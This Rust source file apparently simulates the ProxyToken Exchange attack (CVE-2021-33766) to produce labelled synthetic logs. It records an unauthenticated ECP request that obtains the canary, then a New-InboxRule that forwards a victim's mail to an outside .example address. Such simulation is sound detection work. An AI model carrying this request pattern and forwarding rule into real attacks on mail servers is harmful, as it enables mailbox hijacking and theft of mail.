//! ProxyToken (CVE-2021-33766): the options of somebody's mailbox without a log-on. The first request fails and yields the
//! canary, the second makes a rule.

use super::actor::Actor;
use crate::{
    clock::{Moment, SECOND},
    dice::Dice,
    sources::http_proxy::Protocol,
    stage::{BackEnd, Command, Hit, Route, Stage},
    truth::Mark,
};

pub(crate) fn play(stage: &mut Stage, dice: &mut Dice, actor: &Actor, at: Moment) {
    let victim = stage.world.users[dice.index(stage.world.users.len())].clone();
    let mailbox = stage.world.address_of(&victim.name);
    let stem = format!("/ecp/{mailbox}/RulesEditor/InboxRules.svc/NewObject");
    let canary = format!("msExchEcpCanary={}", dice.canary());
    let ask = |stage: &mut Stage, at: Moment, query: &str, status: u16, step: &'static str| {
        let back = BackEnd { stem: &stem, query, user: "", status, mark: Some(Mark::beside(step)) };
        let hit = Hit {
            query,
            status,
            taken: 240,
            protocol: Some(Protocol::Ecp),
            anchor: &mailbox,
            hint: "ExplicitLogon-SMTP",
            back_end: Some(back),
            ..Hit::new("POST", &stem, &actor.address, actor.agent)
        };
        stage.hit(at, &hit.marked(&Mark::telling(step).by(&actor.address)));
    };
    // The cookie that opens the door is not logged.
    ask(stage, at, "", 500, "forged_request");
    let at = at + dice.between(1, 5) * SECOND;
    ask(stage, at, &canary, 200, "mail_redirected");
    let target = format!("{}@{}.example", dice.word(8), dice.word(9));
    let name = dice.word(5);
    let call = format!("New-InboxRule.Name='{name}'.ForwardTo='{target}'.Mailbox='{mailbox}'.StopProcessingRules=$false");
    let mark = || Some(Mark::telling("mail_redirected"));
    stage.ecp(at + -60, &call, &format!("{stem}?{canary}"), "", mark());
    let parameters = [("Name", name.as_str()), ("ForwardTo", &target), ("Mailbox", &mailbox), ("StopProcessingRules", "False")];
    stage.command(at + -40, &Command::new("New-InboxRule", &parameters, &victim, Route::Panel), mark());
}
